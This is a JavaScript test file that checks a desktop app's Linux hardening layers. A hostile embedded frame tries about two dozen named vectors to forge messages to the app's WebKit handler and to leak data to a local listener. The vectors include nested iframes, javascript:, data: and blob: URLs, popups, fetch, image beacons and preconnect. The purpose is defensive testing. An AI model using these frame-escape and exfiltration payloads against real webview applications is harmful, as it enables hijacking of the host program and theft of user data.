// A gadget's frame in the real window tries to command the program through the window library's message handler, in every
// way a frame can get at it, and to carry data out by navigating. Each way is tried without the layers that cover it, where
// the pinned ones must succeed (else the test proves nothing), and with them, where none may.
import assert from "node:assert/strict";
import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { Desktop, until } from "./desktop.mjs";
import { Inspector } from "./inspector.mjs";

// The bits of app/harden_linux.h.
const layers = { gate: 1, policy: 2, neuter: 4, proxy: 8, features: 16 };
const all = 31;

// How a frame comes by the handler. Each runs in the frame with message(kind) giving the forged text and post(text) the
// plain way to send it. The message opens an address whose end is the vector's name, so that what arrives names the hole.
const vectors = {
  direct: "post(browse)",
  event: `post('EE' + JSON.stringify({ name: 'forged', data: ['event'] }))`,
  prototype: `Object.getPrototypeOf(webkit.messageHandlers.external).postMessage.call(webkit.messageHandlers.external, browse)`,
  nested_blank: `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.webkit.messageHandlers.external.postMessage(browse)`,
  nested_srcdoc: `const f = document.createElement('iframe'); f.srcdoc = script(browse); document.body.append(f)`,
  redefined: `try { Object.defineProperty(window, 'webkit', { value: undefined }) } catch {} const f = document.createElement('iframe'); f.srcdoc = script(browse); document.body.append(f)`,
  late_srcdoc: `const f = document.createElement('iframe'); document.body.append(f); setTimeout(() => { f.srcdoc = script(browse) }, 50)`,
  nested_javascript: `const f = document.createElement('iframe'); f.src = 'javascript:webkit.messageHandlers.external.postMessage(' + JSON.stringify(browse) + ')'; document.body.append(f)`,
  nested_data: `const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(script(browse)); document.body.append(f)`,
  nested_blob: `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([script(browse)], { type: 'text/html' })); document.body.append(f)`,
  object: `const o = document.createElement('object'); o.type = 'text/html'; o.data = 'data:text/html,' + encodeURIComponent(script(browse)); document.body.append(o)`,
  javascript: `location.href = 'javascript:webkit.messageHandlers.external.postMessage(' + JSON.stringify(browse) + ')'`,
  document_open: `document.open(); document.write(script(browse)); document.close()`,
  parent_go: `parent.go.app.Pipe.Open()`,
  parent_runtime: `parent.runtime.BrowserOpenURL(browse.slice(3))`,
  top_navigates: `top.location.href = leak`,
  frame_navigates: `location.href = leak`,
  popup: `open(leak)`,
  link: `const a = document.createElement('a'); a.href = leak; document.body.append(a); a.click()`,
  refresh: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + leak; document.head.append(m)`,
  fetch: `fetch(leak, { mode: 'no-cors' })`,
  image: `new Image().src = leak`,
  preconnect: `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = leak; document.head.append(l)`,
  call: `post('C' + JSON.stringify({ name: 'app.Pipe.Open', args: [], callbackID: 'x' }))`, // last: where it succeeds, the page has lost its pipe
};

// What succeeds with every layer of the program's own off: the handler is open to a frame, whatever its policy says, and a
// preconnect gets past the frame's policy. The rest is stopped by the policies of the page and the frame alone.
const open = ["call", "direct", "document_open", "event", "late_srcdoc", "nested_srcdoc", "preconnect", "prototype", "redefined"];

let desktop, listener, hits;
before(async () => {
  hits = new Set();
  listener = createServer((request, response) => response.end("hit"));
  listener.on("connection", (socket) => socket.once("data", (data) => hits.add(/\/(\w+)/.exec(String(data))?.[1] ?? "connection")));
  listener.on("connection", () => hits.add("connection"));
  await new Promise((ready) => listener.listen(0, "127.0.0.1", ready));
});
after(() => listener.close());

// The vectors run as inline scripts, which the frame's policy allows; it does not allow eval.
const client = (leak) => `
globalThis.script = (text) => '<script>webkit.messageHandlers.external.postMessage(' + JSON.stringify(text).replaceAll('<', '\\\\u003c') + ')<\\/script>';
globalThis.post = (text) => webkit.messageHandlers.external.postMessage(text);
const name = await gadget.next();
if (name) {
  globalThis.leak = ${JSON.stringify(leak)} + name;
  globalThis.browse = 'BO:' + globalThis.leak;
  document.body.textContent = name;
  const node = document.createElement('script');
  node.textContent = '{' + (await gadget.body()) + '}';
  document.body.append(node);
}`;

const server = `import { DurableObject } from "cloudflare:workers";
export class Gadget extends DurableObject {
  choose(name, body) { this.name = name; this.text = body; }
  next() { const name = this.name; this.name = undefined; return name; }
  waiting() { return this.name !== undefined; }
  body() { return this.text; }
}`;

/** Runs every vector in a window with these layers and returns the names of those that got through. */
async function attack(bits) {
  desktop = await Desktop.make();
  const port = listener.address().port;
  const opened = join(desktop.root, "opened");
  const tools = join(desktop.root, "tools");
  await mkdir(tools);
  await writeFile(opened, "");
  for (const opener of ["xdg-open", "x-www-browser", "www-browser"]) {
    await writeFile(join(tools, opener), `#!/bin/sh\necho "$1" >> ${opened}\n`);
    await chmod(join(tools, opener), 0o755);
  }
  const inspectorPort = 20_000 + Math.floor(Math.random() * 20_000);
  try {
    const ref = await desktop.json("new", "--blueprint", "board", "--title", "Attacker");
    await desktop.push(ref, { "server.js": server, "client.js": client(`http://127.0.0.1:${port}/`) });
    await desktop.openWindow({
      attack: true,
      environment: { TOOLSHED_LAYERS: String(bits), WEBKIT_INSPECTOR_HTTP_SERVER: `127.0.0.1:${inspectorPort}`, PATH: `${tools}:${process.env.PATH}` },
    });
    const inspector = await Inspector.connect(`127.0.0.1:${inspectorPort}`);
    const got = await runVectors(inspector, ref, opened);
    inspector.close();
    return got;
  } finally {
    await desktop.remove();
  }
}

async function runVectors(inspector, ref, opened) {
  const got = new Set();
  const rows = `document.querySelectorAll('[data-row]')`;
  await until("the sidebar", () => inspector.evaluate(`${rows}.length > 0`));
  const home = () => inspector.evaluate(`document.querySelector('[data-command="home"]').click()`);
  for (const [name, body] of Object.entries(vectors)) {
    const before = { pipes: count("attack: pipe opened"), events: count("attack: event") };
    hits.clear();
    const { code, stderr } = await desktop.command("call", ref.gadget, "choose", JSON.stringify(name), JSON.stringify(body));
    assert.equal(code, 0, stderr);
    await home();
    await inspector.evaluate(`${rows}[${rows}.length - 1].click()`);
    await until(`${name} to start`, async () => (await desktop.command("call", ref.gadget, "waiting")).stdout.trim() === "false", 10_000);
    await sleep(500);
    if (count("attack: pipe opened") > before.pipes) got.add(name);
    if (count("attack: event") > before.events) got.add(name);
    if ((await readFile(opened, "utf8")).split("\n").some((line) => line.endsWith("/" + name))) got.add(name);
    if (hits.size > 0) got.add(name);
    await until("the page after an attack", () => inspector.evaluate(`${rows}.length > 0`));
  }
  return [...got].sort();
}

const count = (line) => desktop.errors.split("\n").filter((l) => l.startsWith(line)).length;

test(`${Object.keys(vectors).length} vectors, each with its own name`, (t) => t.diagnostic(Object.keys(vectors).join(" ")));

test("without the layers a frame commands the program", async () => {
  assert.deepEqual(await attack(0), open);
});

test("with every layer nothing gets through", async () => {
  assert.deepEqual(await attack(all), []);
});

test("the gate alone, and the neutering alone, keep every forged message out", async () => {
  for (const layer of [layers.gate, layers.neuter]) assert.deepEqual(await attack(layer), ["preconnect"]);
});

test("the dead proxy alone, and the features off alone, keep connections in", async () => {
  const messages = open.filter((name) => name !== "preconnect");
  for (const layer of [layers.proxy, layers.features]) assert.deepEqual(await attack(layer), messages);
});
